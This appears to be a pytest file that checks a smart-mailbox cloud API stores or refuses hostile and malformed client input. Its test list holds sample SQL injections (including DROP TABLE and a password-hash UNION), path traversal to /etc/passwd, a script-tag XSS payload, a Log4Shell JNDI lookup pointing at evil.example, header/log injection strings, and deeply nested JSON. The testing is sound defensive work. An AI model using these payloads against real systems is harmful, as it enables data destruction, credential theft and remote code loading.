"""What clients send by mistake or on purpose is stored as it is, or refused with a reason; nothing else happens."""

import json
from urllib.parse import quote

import pytest

from cloud.accounts.model import NO_ADDRESS
from tests.unit.cloud.api.strangers import bearer
from tests.unit.cloud.messages import jpeg, rows

INJECTIONS = [
    "'; DROP TABLE devices; --",
    '" OR 1=1 --',
    "1) UNION SELECT password_hash FROM users --",
    "\\'; SELECT sleep(5); --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "%s%n{0}{config}",
    "a\r\nX-Injected: yes",
    "a\nERROR forged line",
    "\u202egnp.exe",
    "☃ e\u0301 \U0001f4ec",
]


@pytest.fixture
def owner(stage):
    stage.client.headers["Authorization"] = bearer(stage.token)["Authorization"]
    yield stage.client
    del stage.client.headers["Authorization"]


def is_refused(answer, status=422):
    return answer.status_code == status and set(answer.json()) == {"error", "message", "detail"}


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_name_is_kept_as_it_is_and_does_nothing(stage, owner, text):
    made = owner.post("/devices", json={"name": text, "location": text})
    assert made.status_code == 200, made.text
    device = owner.get(f"/devices/{made.json()['id']}")
    assert (device.json()["name"], device.json()["location"]) == (text.strip(), text)
    assert "x-injected" not in device.headers
    assert owner.get("/device/lookup", params={"serial_id": text}).status_code in {200, 404}
    assert {name for (name,) in rows(stage.app, "SELECT thing FROM devices")}
    assert owner.delete(f"/devices/{made.json()['id']}").status_code == 200


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_id_or_a_filter_that_is_none_is_refused(owner, stage, text):
    for path in ("/devices/{}", "/mailbox/images/{}/file", "/mailbox/images/{}/thumbnail"):
        assert owner.get(path.format(quote(text, safe=""))).status_code in {404, 422}
    device = stage.ids["device_id"]
    for wrong in ({"event_type": text}, {"cursor": text}, {"limit": text}, {"since": text}, {"device_id": text}):
        assert is_refused(owner.get("/mailbox/events", params={"device_id": device} | wrong)), wrong
    assert is_refused(owner.post("/iot/report", params={"d": device, "e": text}))


@pytest.mark.parametrize("text", [one for one in INJECTIONS if one.isascii() and one.isprintable()])
def test_a_header_is_only_a_header(owner, stage, text):
    headers = {"x-household": text, "x-request-id": text, "user-agent": text}
    assert is_refused(owner.get("/devices", headers=headers), 404)
    headers = {"Idempotency-Key": text, "If-None-Match": text, "Range": text, "User-Agent": text}
    body = {"device_id": stage.ids["device_id"], "event_type": "open"}
    assert owner.post("/mailbox/events", json=body, headers=headers).status_code == 200
    assert owner.get(f"/mailbox/images/{stage.ids['image_id']}/file", headers=headers).status_code == 200
    for bad in ({"Authorization": f"Bearer {text}"}, {"Authorization": text}):
        assert owner.get("/devices", headers=bad).status_code == 401


def test_a_word_that_is_none_of_the_allowed_is_told_which_are(owner, stage):
    body = {"device_id": stage.ids["device_id"], "event_type": "opened"}
    answer = owner.post("/mailbox/events", json=body)
    assert is_refused(answer)
    assert answer.json()["detail"] == [
        {"field": "body.event_type", "message": "expected 'open' or 'close', got \"opened\""}
    ]
    answer = owner.get("/mailbox/events", params={"device_id": stage.ids["device_id"], "event_type": "opne"})
    for allowed in ("door", "all", "still_open", "tamper", "boot", "low_battery"):
        assert f"'{allowed}'" in answer.json()["message"]


def fields(answer):
    return [one["field"] for one in answer.json()["detail"]]


@pytest.mark.parametrize("email", ["no address", "kim@", "x" * 300 + "@example.org"])
def test_an_address_that_is_none_is_named_with_whatever_else_is_wrong(owner, stage, email):
    body = {"name": "", "email": email, "password": "short"}
    assert fields(owner.post("/auth/register", json=body)) == ["body.name", "body.email", "body.password"]
    for path in ("/auth/password/forgot", "/auth/email", "/households/invitations"):
        answer = owner.post(path, json={"email": email})
        assert (is_refused(answer), fields(answer)) == (True, ["body.email"]), path
    for method, path in (("POST", "/devices"), ("PUT", f"/devices/{stage.ids['device_id']}")):
        answer = owner.request(method, path, json={"email": email, "name": "New"})
        assert (is_refused(answer), fields(answer)) == (True, ["body.email"]), path


def test_an_address_that_no_mail_reaches_is_named(owner):
    body = {"email": f"kim{NO_ADDRESS}"}
    answer = owner.post("/auth/email", json=body)
    assert (is_refused(answer), fields(answer)) == (True, ["body.email"])
    assert "expected an e-mail address that mail can reach" in answer.json()["detail"][0]["message"]
    assert "body.email" in fields(owner.post("/auth/register", json=body))


def test_what_is_wrong_beyond_its_form_is_named_too(owner, stage):
    device = stage.ids["device_id"]
    event = {"device_id": device, "event_type": "open"}
    image = {"file": ("letter.jpg", b"no image", "image/jpeg")}
    key = {"Idempotency-Key": "one of two"}
    owner.post("/devices", json={"name": "One"}, headers=key)
    wrong = {
        "body.code": owner.post("/devices/claim", json={"code": "7K2M"}),
        "body.timestamp": owner.post("/mailbox/events", json=event | {"timestamp": "1970-01-01T00:00:00Z"}),
        "body.device_id": owner.post("/mailbox/images", files=image),
        "header.idempotency-key": owner.post("/devices", json={"name": "Two"}, headers=key),
        "query.serial_id": owner.get("/device/lookup"),
        "body.board": owner.put(f"/devices/{device}/settings", json={"board": {"colour": "red"}}),
    }
    for field, answer in wrong.items():
        assert (is_refused(answer), fields(answer)) == (True, [field]), answer.text
        assert answer.json()["detail"][0]["message"].startswith("expected "), answer.text
    told = wrong["body.board"].json()["message"]
    assert "expected settings of debounce_ms, heartbeat_s, " in told
    assert told.endswith("got 'colour'")


def test_an_image_that_is_none_is_named(owner, stage):
    for content, status in ((b"no image", 415), (jpeg()[:500], 422), (b"", 415)):
        files = {"file": ("letter.jpg", content, "image/jpeg")}
        answer = owner.post("/mailbox/images", data={"device_id": stage.ids["device_id"]}, files=files)
        assert (answer.status_code, fields(answer)) == (status, ["body.file"]), answer.text


BODIES = {
    "a NUL in an id": b'{"device_id": %d, "event_type": "open", "event_id": "a\\u0000b"}',
    "a lone surrogate in an id": b'{"device_id": %d, "event_type": "open", "event_id": "\\ud800"}',
    "a huge integer": b'{"device_id": %d0000000000000000000000000000000000, "event_type": "open"}',
    "a number beyond the integers": b'{"device_id": 1e400, "event_type": "open%d"}',
    "a float": b'{"device_id": %d.5, "event_type": "open"}',
    "no object": b"[%d]",
    "nothing of JSON": b"device_id=%d",
    "broken JSON": b'{"device_id": %d, "event_type": "open"',
    "not UTF-8": b'{"device_id": %d, "event_type": "\xff\xfe"}',
    "UTF-16": '{"device_id": 1, "event_type": "öpen"}'.encode("utf-16"),
    "a time that is none": b'{"device_id": %d, "event_type": "open", "timestamp": "2026-13-45T99:00:00Z"}',
    "a time beyond the calendar": b'{"device_id": %d, "event_type": "open", "timestamp": 1e308}',
    "no number": b'{"device_id": NaN, "event_type": "open%d"}',
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_a_body_that_is_none_is_refused(owner, stage, body):
    content = body.replace(b"%d", str(stage.ids["device_id"]).encode())
    answer = owner.post("/mailbox/events", content=content, headers={"Content-Type": "application/json"})
    assert is_refused(answer), answer.text


@pytest.mark.parametrize("name", ["a\x00b", "\ud800", "x" * 201, ""])
def test_a_name_that_no_database_or_screen_can_hold_is_refused_or_kept(owner, name):
    content = json.dumps({"name": name})
    answer = owner.post("/devices", content=content, headers={"Content-Type": "application/json"})
    assert answer.status_code in {200, 422}
    if answer.status_code == 200:
        assert owner.get(f"/devices/{answer.json()['id']}").json()["name"] == name


def test_deep_json_is_refused(owner):
    content = b'{"device_id": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    answer = owner.post("/mailbox/events", content=content, headers={"Content-Type": "application/json"})
    assert is_refused(answer)


def test_the_last_of_two_keys_counts(owner, stage):
    body = f'{{"device_id": 0, "device_id": {stage.ids["device_id"]}, "event_type": "open"}}'
    assert owner.post("/mailbox/events", content=body, headers={"Content-Type": "application/json"}).status_code == 200


@pytest.mark.parametrize("path", ["/mailbox/events", "/devices"])
@pytest.mark.parametrize(
    ("kind", "status"),
    {
        # What a page of another website may send without asking (CORS).
        "text/plain": 422,
        "multipart/form-data": 422,
        "application/x-www-form-urlencoded": 422,
        "": 422,
        "application/xml": 422,
        "application/json; charset=x": 200,
        "Application/JSON": 200,
        "application/vnd.mailbox+json": 200,
    }.items(),
)
def test_only_what_says_that_it_is_json_is_read_as_json(owner, stage, path, kind, status):
    body = json.dumps({"device_id": stage.ids["device_id"], "event_type": "open", "name": "Mailbox"})
    answer = owner.post(path, content=body, headers={"Content-Type": kind})
    assert answer.status_code == status, answer.text
    if status == 422:
        assert answer.json()["detail"][0]["field"] == "body"
        assert "expected JSON, with Content-Type: application/json" in answer.json()["message"]


def test_a_known_hash_claims_nobodys_image(stage):
    content = jpeg()
    stranger, _ = stage.register("collector")
    headers = bearer(stranger)
    device = stage.client.post("/devices", json={"name": "Mine"}, headers=headers).json()["id"]
    files = {"file": ("same.jpg", content, "image/jpeg")}
    data = {"device_id": str(device)}
    mine = stage.client.post("/mailbox/images", data=data, files=files, headers=headers).json()["id"]
    assert mine != stage.ids["image_id"]
    path = f"/mailbox/images/{stage.ids['image_id']}/file"
    assert stage.client.get(path, headers=headers).status_code == 404
    assert stage.client.delete(f"/mailbox/images/{mine}", headers=headers).status_code == 200
    assert stage.client.get(path, headers=bearer(stage.token)).status_code == 200
